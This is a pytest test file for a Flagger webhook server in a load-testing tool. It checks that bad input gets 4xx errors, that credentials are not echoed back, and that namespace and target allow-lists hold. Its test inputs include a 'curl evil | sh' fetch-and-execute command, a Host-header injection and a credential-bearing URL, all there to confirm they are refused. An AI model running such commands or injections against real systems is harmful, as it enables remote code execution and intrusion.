"""Bad input gets a 4xx with a reason, never a 500, and the server stays healthy."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.webhook.conftest import Serve

GOOD = {"name": "bruno-site", "namespace": "bruno", "phase": "Progressing", "checksum": "85d557f47b",
        "metadata": {"target": "http://127.0.0.1:9/canary"}}


def with_meta(**meta: object) -> dict[str, object]:
    return {**GOOD, "metadata": {"target": "http://127.0.0.1:9/canary", **meta}}


CASES = [
    ("broken-json", "pre-rollout", b'{"name": "bruno-site",', 400, "malformed JSON"),
    ("not-an-object", "rollout", b"[1, 2]", 400, "must be Flagger's JSON object"),
    ("empty-body", "rollout", b"", 400, "malformed JSON"),
    ("not-utf8", "rollout", b"\xff\xfe{}", 400, "malformed JSON"),
    ("missing-name", "rollout", {k: v for k, v in GOOD.items() if k != "name"}, 400, "name: Field required"),
    ("missing-namespace", "confirm-promotion", {"name": "x", "phase": "Progressing"}, 400, "namespace: Field required"),
    ("wrong-type", "rollout", {**GOOD, "namespace": 7}, 400, "namespace: Input should be a valid string"),
    ("metadata-not-strings", "rollout", with_meta(users=10), 400, "metadata.users: Input should be a valid string"),
    ("unknown-kind", "deploy", GOOD, 404, "unknown hook kind 'deploy'; valid: confirm-rollout"),
    ("unknown-profile", "rollout", with_meta(profile="nope"), 400, "unknown profile 'nope'"),
    ("cmd-is-refused", "rollout", with_meta(cmd="curl evil | sh"), 400, "unknown metadata key(s) 'cmd'; valid keys"),
    ("type-is-refused", "pre-rollout", with_meta(type="bash"), 400, "unknown metadata key(s) 'type'"),
    ("target-not-allowed", "rollout", with_meta(target="http://example.com/"), 403, "target http://example.com"),
    ("bad-target", "rollout", with_meta(target="not a url"), 400, "metadata target: bad target"),
    ("credentials-in-target", "rollout", with_meta(target="http://bob:s3cret@127.0.0.1:9/canary"), 400,
     "metadata target: bad target http://***@127.0.0.1:9...: credentials in the URL"),
    ("bad-duration", "rollout", with_meta(duration="soon"), 400, "metadata duration: bad duration 'soon'"),
    ("too-long", "rollout", with_meta(duration="2h"), 400, "longer than this server's max_duration"),
    ("negative-users", "rollout", with_meta(users="-1"), 400, "metadata users"),
    ("too-many-users", "rollout", with_meta(users="100000"), 400, "max_users"),
    ("bad-spawn-rate", "rollout", with_meta(spawn_rate="fast"), 400, "metadata spawn_rate"),
    ("bad-headers", "rollout", with_meta(headers="no colon here"), 400, "metadata headers: bad header"),
    ("unknown-threshold-set", "rollout", with_meta(thresholds="lenient"), 400, "unknown threshold set 'lenient'"),
    ("stages-too-short", "rollout", with_meta(profile="step", duration="2s"), 400, "every stage needs at least 1s"),
    ("oversized", "rollout", {**GOOD, "phase": "x" * 70_000}, 413, "larger than the limit"),
    ("name-not-a-dns-label", "rollout", {**GOOD, "name": "127.0.0.1:9/canary/"}, 400, "name: String should match"),
    ("namespace-with-dots", "rollout", {**GOOD, "namespace": "evil.example"}, 400, "namespace: String should"),
    ("upper-case-name", "rollout", {**GOOD, "name": "Bruno"}, 400, "name: String should match"),
    ("infinite-spawn-rate", "rollout", with_meta(spawn_rate="inf"), 400, "must be a finite number above 0"),
    ("nan-spawn-rate", "rollout", with_meta(spawn_rate="nan"), 400, "must be a finite number above 0"),
    ("host-header", "rollout", with_meta(headers="Host: evil.example"), 400, "cannot be set"),
    ("deep-json", "rollout", b"[" * 60_000, 400, "malformed JSON"),
    ("deep-json-headers", "rollout", with_meta(headers='{"a":' * 3000 + "1" + "}" * 3000), 400, "metadata headers"),
    ("non-ascii-target", "rollout", with_meta(target="http://127.0.0.1:9/\u2028"), 400, "non-ASCII"),
    ("zero-rate", "rollout", with_meta(rate="0"), 400, "metadata rate: '0' is below the least rate loadkit runs (0.01"),
    ("tiny-rate", "rollout", with_meta(rate="1e-300"), 400, "'1e-300' is not a plain decimal number"),
    ("full-width-rate", "rollout", with_meta(rate="\uff11\uff10"), 400, "is not a plain decimal number"),
    ("underscored-rate", "rollout", with_meta(rate="1_000"), 400, "'1_000' is not a plain decimal number"),
    ("just-over-max-rate", "rollout", with_meta(rate="2000.0001"), 400, "rate 2000.0001 iterations/s is more"),
    ("rate-and-users", "rollout", with_meta(rate="10", users="5"), 400, "so --users does not apply"),
    ("too-high-rate", "rollout", with_meta(rate="1000000"), 400, "max_rate"),
]


@pytest.mark.parametrize(("kind", "body", "status", "reason"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_bad_input_is_a_4xx_with_a_reason(server: Serve, kind: str, body: object, status: int, reason: str) -> None:
    answer = server.hook(kind, body)
    assert answer.status_code == status, answer.text
    assert reason in answer.text
    assert "s3cret" not in answer.text  # a credential is never echoed
    assert server.get("/healthz").status_code == 200


def test_every_answer_is_counted_in_metrics(server: Serve) -> None:
    server.hook("deploy", GOOD)
    server.hook("rollout", b"{")
    metrics = server.get("/metrics").text
    assert 'loadkit_hook_answers_total{code="404",kind="unknown"}' in metrics
    assert 'loadkit_hook_answers_total{code="400",kind="rollout"}' in metrics
    assert 'status="running"' not in metrics  # a counter of finished runs only


def test_bearer_scheme_is_required(tmp_path: Path) -> None:
    token = tmp_path / "token"
    token.write_text("s3cret")
    serve = Serve(tmp_path, "--token-file", str(token)).start()
    try:
        bare = serve.admin("PUT", "/admin/freeze", json={"reason": "x"}, headers={"Authorization": "s3cret"})
        assert bare.status_code == 401
        assert serve.admin("PUT", "/admin/freeze", "s3cret", json={"reason": "x"}).status_code == 200
    finally:
        serve.stop()


def test_json_answers_on_request(server: Serve) -> None:
    answer = server.hook("rollout", with_meta(cmd="x"), headers={"Accept": "application/json"})
    assert answer.status_code == 400 and "unknown metadata key" in answer.json()["message"]


def test_wrong_method_and_query_types(server: Serve) -> None:
    assert server.get("/flagger/rollout").status_code == 405
    answer = server.get("/runs", params={"limit": "many"})
    assert answer.status_code == 400 and "limit" in answer.text
    assert server.get("/runs/nope").status_code == 404


def test_namespace_allow_list(tmp_path: Path) -> None:
    serve = Serve(tmp_path, "--allow-namespace", "bruno|shop").start()
    try:
        refused = serve.hook("confirm-rollout", {**GOOD, "namespace": "kube-system"})
        assert refused.status_code == 403 and "namespace 'kube-system' is not allowed" in refused.text
        assert serve.hook("confirm-rollout", GOOD).status_code == 200
    finally:
        serve.stop()


def test_default_targets_are_in_cluster_services_only(tmp_path: Path) -> None:
    serve = Serve(tmp_path, local_targets=False).start()
    try:
        for target in ("http://127.0.0.1:8080/", "http://example.com/", "http://bruno-site-canary.other:80/"):
            answer = serve.hook("rollout", with_meta(target=target))
            assert answer.status_code == 403, (target, answer.text)
        # Allowed by default (they fail later, on reaching them, but not on policy):
        for n, target in enumerate(("http://bruno-site-canary.bruno:80/",
                                    "http://bruno-site-canary.bruno.svc.cluster.local/")):
            answer = serve.hook("rollout", {**with_meta(target=target, duration="2s"), "checksum": f"c{n}"})
            assert answer.status_code == 202, (target, answer.text)
        assert serve.hook("post-rollout", GOOD).status_code == 200
    finally:
        serve.stop()


@pytest.mark.parametrize(
    ("args", "message"),
    [pytest.param(["--allow-target", "(unclosed"], "--allow-target '(unclosed' is not a valid regular expression",
                  id="bad-regex"),
     pytest.param(["--token-file", "missing/token"], "cannot read --token-file", id="missing-token-file"),
     pytest.param(["--config", "missing.yaml"], "cannot read config file", id="missing-config")],
)
def test_bad_server_options_exit_2(tmp_path: Path, args: list[str], message: str) -> None:
    from tests.conftest import run_loadkit

    # in a tmp dir, with a --db there: a serve that got as far as its database writes nothing elsewhere
    out = run_loadkit("serve", "--port", "0", "--db", str(tmp_path / "loadkit.db"), *args, timeout=30, cwd=tmp_path)
    assert out.returncode == 2 and message in out.stderr and "Traceback" not in out.stderr


def test_a_bad_server_config_is_refused_at_start_up(tmp_path: Path) -> None:
    from tests.conftest import run_loadkit

    config = tmp_path / "bad.yaml"
    config.write_text("server:\n  default_profiles: {rollout: nope}\nthreshold_sets:\n  empty: []\n")
    out = run_loadkit("serve", "--port", "0", "--db", str(tmp_path / "loadkit.db"), "--config", str(config),
                      timeout=30, cwd=tmp_path)
    assert out.returncode == 2
    assert "threshold set 'empty' is empty" in out.stderr
